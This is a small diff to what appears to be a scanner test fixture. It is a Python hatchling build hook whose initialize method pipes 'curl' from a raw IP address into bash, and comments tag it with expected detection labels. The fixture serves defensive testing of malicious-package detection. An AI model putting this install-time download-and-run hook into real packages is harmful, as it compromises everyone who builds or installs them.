@@ -8,4 +8,4 @@ from hatchling.builders.hooks.plugin.interface import BuildHookInterface
 
 class CustomHook(BuildHookInterface):  # expect: install-hook
     def initialize(self, version, build_data):
-        subprocess.Popen("curl -s http://159.65.12.9/p.sh | bash", shell=True)  # expect: install-hook, download-pipe-shell
+        subprocess.Popen("curl -s http://159.65.12.9/p.sh | bash", shell=True)  # expect: install-hook, download-pipe-shell, raw-ip-url
